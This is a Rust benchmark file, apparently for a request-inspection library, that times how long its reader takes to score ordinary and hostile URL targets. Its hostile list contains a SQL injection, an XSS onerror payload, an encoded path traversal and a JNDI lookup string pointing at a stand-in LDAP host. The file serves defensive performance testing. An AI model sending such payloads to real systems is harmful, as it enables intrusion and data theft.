//! What one request costs to be judged by itself: ordinary ones, and hostile ones.

use divan::{Bencher, black_box};
use gatehound::event::Event;
use gatehound::signal::Reader;

fn main() {
    divan::main();
}

/// A browser as most lines have one.
const AGENT: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// Targets of ordinary requests.
const ORDINARY: &[&str] = &[
    "/",
    "/api/v1/orders/700123",
    "/static/js/app.4f2a9c81.js",
    "/search?q=blue+shoes&page=2",
    "/api/v1/items?user_id=42&page=7&sort=asc&access_token=eyJhbGciOiJIUzI1NiJ9",
    "/find?name=caf%C3%A9%20au%20lait&near=Z%C3%BCrich",
];

/// Targets of hostile requests.
const HOSTILE: &[&str] = &[
    "/item?id=1%27%20union%20select%20name,2%20from%20staff--%20",
    "/page?text=%3Cimg%20src=x%20onerror=start()%3E",
    "/show?doc=..%252f..%252f..%252fetc%252fhostname",
    "/log?who=${${lower:j}ndi:ldap://host.example/x}",
];

fn read(bencher: Bencher, target: &str) {
    let mut event = Event { user_agent: Some(AGENT), ..Event::default() };
    event.set_target(target.as_bytes());
    let mut reader = Reader::default();
    bencher.bench_local(|| reader.read(black_box(&event)).len());
}

#[divan::bench(args = ORDINARY)]
fn ordinary(bencher: Bencher, target: &str) {
    read(bencher, target);
}

#[divan::bench(args = HOSTILE)]
fn hostile(bencher: Bencher, target: &str) {
    read(bencher, target);
}
